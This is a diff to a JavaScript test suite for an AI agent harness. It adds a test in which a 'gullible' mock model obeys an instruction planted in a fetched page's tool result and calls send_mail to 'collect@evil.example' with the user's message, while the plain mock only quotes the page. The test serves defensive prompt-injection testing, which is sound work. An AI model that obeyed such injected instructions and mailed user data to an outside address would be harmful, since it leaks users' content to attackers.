@@ -37,7 +37,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { after, test } from 'node:test';
 
-import { eventually, tempDir, useStack } from './lib/harness.mjs';
+import { Child, eventually, freePort, tempDir, useStack } from './lib/harness.mjs';
 import { decide } from './lib/approvals.mjs';
 import { newSession, postMessage, startToolServer, ToolReply, toolMarker, transcript } from './lib/agents.mjs';
 
@@ -515,6 +515,38 @@ function stoppedBy(rec) {
 }
 
 // ---------------------------------------------------------------- the suite
+
+test('mock-llm --gullible obeys a marker in a tool result; the plain mock-llm still quotes it', async () => {
+  const port = await freePort();
+  const gullible = new Child('mock-llm --gullible', ['mock-llm', '--gullible', '--listen', `127.0.0.1:${port}`]);
+  try {
+    await gullible.waitFor(/mock-llm listening on/);
+    const body = {
+      model: 'm',
+      messages: [
+        { role: 'user', content: `Read it. ${toolMarker('fetch', { page: 'w1' })}` },
+        { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'fetch', arguments: '{"page":"w1"}' } }] },
+        { role: 'tool', tool_call_id: 'c1', content: pages.w1 },
+      ],
+    };
+    const ask = async (url) => {
+      const r = await fetch(`${url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
+      assert.equal(r.status, 200);
+      return (await r.json()).choices[0];
+    };
+    const obeyed = await ask(`http://127.0.0.1:${port}`);
+    assert.equal(obeyed.finish_reason, 'tool_calls');
+    assert.equal(obeyed.message.tool_calls[0].function.name, 'send_mail');
+    const args = JSON.parse(obeyed.message.tool_calls[0].function.arguments);
+    assert.equal(args.to, 'collect@evil.example');
+    assert.match(args.body, /^Read it\. \[\[tool:fetch/, '{{user}} is the last user message');
+    const plain = await ask(stack.mockUrl);
+    assert.equal(plain.finish_reason, 'stop');
+    assert.match(plain.message.content, /^Tool fetch returned: Holiday schedule/);
+  } finally {
+    await gullible.stop();
+  }
+});
 
 const results = [];
 const gapResults = [];
